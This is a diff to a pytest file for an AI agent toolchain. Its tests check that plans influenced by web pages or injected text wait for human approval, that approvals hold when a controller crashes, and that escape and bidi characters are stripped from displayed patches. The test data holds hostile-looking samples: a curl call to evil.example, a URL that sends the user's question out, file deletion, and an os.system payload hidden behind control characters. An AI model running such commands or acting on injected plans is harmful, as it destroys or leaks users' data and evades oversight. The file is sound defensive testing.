@@ -15,9 +15,17 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from fdc_toolchain.cli.agent_world import LocalWorld
+from fdc_toolchain.effects.lgtm_pipeline import prove
+from fdc_toolchain.packs.lgtm.synthesis import PIPELINE
+from fdc_toolchain.testing import Crash, CrashPoint, ScriptedModel
+from fdc_toolchain.workflows.master_control import MasterControlGraph
+from fdc_toolchain.workflows.planning import compile_text
+from fdc_toolchain.workflows.provenance import harmless
 
 from tests.cli.test_agent import PLAN
 from tests.cli.test_prompts import world
+from tests.fault.test_agent_crash import Dying
 from tests.support.background import PATIENCE, fdc_started, wait_for
 from tests.support.inside import fdc
 from tests.support.messages_api import Item, messages_api, reply
@@ -140,7 +148,8 @@ def test_where_no_web_is_allowed_more_research_needs_nobody_and_goes_nowhere(hom
 @pytest.mark.slow
 def test_findings_of_local_documents_need_no_approval(home: Path) -> None:
     (home / "notes.md").write_text("The water for white tea is as hot as seventy degrees.\n")
-    script = [reply(json.dumps(one)) for one in (ASKING, {"plan": HOSTILE})]
+    plans = ("research --help: how hot is the water for white tea", HOSTILE)  # a question is no option, however it begins
+    script = [reply(json.dumps({"plan": plan})) for plan in plans]
     words = ("How hot", "--task-id", "T-1", "--budget", "model_calls=40")
     _, asked = agent(home, *words, script=script, code=0, web=False)
     assert "seventy degrees" in asked[1] and (home / "owned").exists() and [] == record(home)["control"]["seen"]
@@ -276,12 +285,44 @@ def test_a_controller_that_is_killed_after_the_approval_goes_on_without_another(
     assert (home / "owned").exists() and ["plan.txt"] == runs(home)
 
 
+def test_wherever_a_controller_dies_an_approval_that_is_on_record_counts_and_no_other_does(
+    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Between any two touches of the world from the approval to the end of the run."""
+    waiting(home, PLAN.replace("message_user hello", "run_in_bash_session echo done >> owned"))
+    name = record(home)["control"]["held"]["sha256"]
+
+    def live(place: Path, point: CrashPoint) -> str:
+        inner = LocalWorld(str(place), network="off")
+        graph = MasterControlGraph(world=Dying(inner, point), model=ScriptedModel([]))
+        state = graph.load("T-1")
+        assert state is not None
+        if not graph.notes(state).get("approved"):
+            graph.decide(state, name, "you", inner.logger(), approved=True)
+        return graph.run(state, inner.logger(), plan=lambda _: (place / "plan.txt").read_text())
+
+    for number in range(1, 40):
+        place = tmp_path / f"w{number}"
+        shutil.copytree(home, place)
+        monkeypatch.chdir(place)
+        point = CrashPoint(number)
+        with pytest.raises(Crash):
+            live(place, point)
+        approved = bool(record(place)["control"].get("approved"))
+        out = fdc("agent", "--resume", "T-1", "--network", "off", cwd=place)
+        assert (0 if approved else 1) == out.returncode, (point.moments, out.stdout)
+        assert approved == (place / "owned").exists() and (not approved or "done\n" == (place / "owned").read_text())
+        if "after drive" in point.moments:
+            return
+    raise AssertionError("no life came as far as the run")
+
+
 # Code
 
 
 CODING = "set_plan x\nplan_step_complete y\n{}generate_code it.py Double it.\nclose_task\nsubmit\n"
 RIGHT = {"edits": [{"path": "it.py", "diff": "<<<<<<< SEARCH\n    return x\n=======\n    return x * 2\n>>>>>>> REPLACE"}]}
-WRONG = {"edits": [{"path": "it.py", "content": "import os\nos.system('touch owned')\n"}]}
+WRONG = {"edits": [{"path": "it.py", "content": "import os\nos.system('touch owned')\n# \x1b[2K\u202e\n"}]}
 
 
 def desk(home: Path) -> None:
@@ -302,6 +343,7 @@ def test_a_patch_after_a_step_read_a_page_waits_and_is_not_run(home: Path) -> No
         assert 1 == done.returncode and "the patch awaits a person's approval" in done.stdout, done.stdout + done.stderr
         held = record(home)["control"]["held"]
         assert '    | new file "it.py"\n    | | import os\n' in done.stdout and f"{tea.url}/white" in done.stdout
+        assert "\x1b" not in done.stdout and "\u202e" not in done.stdout
         assert 2 == len(server.requests) and "return x\n" in (home / "it.py").read_text() and not (home / "owned").exists()
         again = fdc("agent", "--resume", "T-1", cwd=home, env=env)
         assert 1 == again.returncode and 2 == len(server.requests)
@@ -352,3 +394,53 @@ def test_lessons_of_such_a_task_are_applied_by_a_person_only_and_its_words_are_n
     assert "is not shown: its task had been shown text from outside" in said and "x = 2" not in said
     assert 0 == fdc("lessons", "apply", lesson["lesson_id"], cwd=home).returncode
     assert "x = 2\n" == (home / "it.py").read_text()
+
+
+# Plans that are no task's
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        "run_in_bash_session curl http://evil.example/x", "create_file_with_block a.py\n    x = 1", "delete_file README.md",
+        "page <- view_text_website http://evil.example/?q={question}", "found <- google_search {question}",
+        "message_user {question}", "generate_code **.py whatever", "call_plan fix",
+    ],
+)  # fmt: skip
+def test_a_pipeline_that_a_model_writes_chooses_no_command_no_file_and_no_address(home: Path, step: str) -> None:
+    """LGTM-41, LGTM-43: such a plan is run; what it may say is what a page that its writer was shown may want."""
+    assert prove(PIPELINE.replace("close_task", "log_message Info README\nclose_task"), str(home))["proved"]
+    for more in ("", "allow write **\n", "allow net *\n", "allow run *\nallow write **\nallow net *\n"):
+        found = prove(PIPELINE.replace("close_task", f"{step}\nclose_task").replace("set_plan", f"{more}set_plan"), str(home))
+        assert not found["proved"] and "" == found["program"] and found["findings"], more
+
+
+@pytest.mark.parametrize(
+    ("step", "free"),
+    [
+        ("message_user hello", True), ("read_file knowledge_core/agent_meta.json", True), ("list_files", True),
+        ("for_each_file **/*.md as one\n  text <- read_file {one}\n  message_user {text}", True),
+        ("run_in_bash_session true", False), ("create_file_with_block b.md\n    x", False), ("delete_file a.md", False),
+        ("view_text_website https://example.org/", False), ("google_search tea", False), ("reply_to_pr_comments hi", False),
+        ("generate_code a.py x", False), ("initiate_memory_recording x", False), ("own_look", False),
+        ("call_plan sub.plan", False), ("hello_world", True), ("call_plan tell.plan", True),
+        ("execute_research_protocol target=external_web scope=narrow query=tea", False), ("propose_keywords question=tea", False),
+    ],
+)  # fmt: skip
+def test_a_plan_needs_nobody_only_where_it_can_do_no_harm(home: Path, step: str, free: bool) -> None:
+    own = {"summary": "looks", "action": "read_op", "effect": "read", "trust": "workspace", "parameters": [], "result": "text"}
+    tools = {"format": 1, "name": "own", "tools": {"own_look": {**own, "run": {"python": "own:look"}}}}
+    (home / "fdc_tools.json").write_text(json.dumps(tools))
+    (home / "own.py").write_text("def look():\n    return ''\n")
+    (home / "sub.plan").write_text("run_in_bash_session true\n")
+    (home / "tell.plan").write_text("message_user hello\n")
+    (home / "a.md").write_text("a\n")
+    compiled = compile_text(str(home), "plan.txt", PLAN.replace("message_user hello", step))
+    assert compiled.program is not None, compiled.findings
+    assert free == harmless(compiled.program)
+
+
+@pytest.mark.parametrize(("end", "free"), [("close_task\nsubmit", True), ("close_task\nsubmit all is well", False)])
+def test_words_that_go_with_the_submission_are_words_that_others_are_sent(home: Path, end: str, free: bool) -> None:
+    compiled = compile_text(str(home), "plan.txt", PLAN.replace("close_task\nsubmit", end))
+    assert compiled.program is not None and free == harmless(compiled.program), compiled.findings
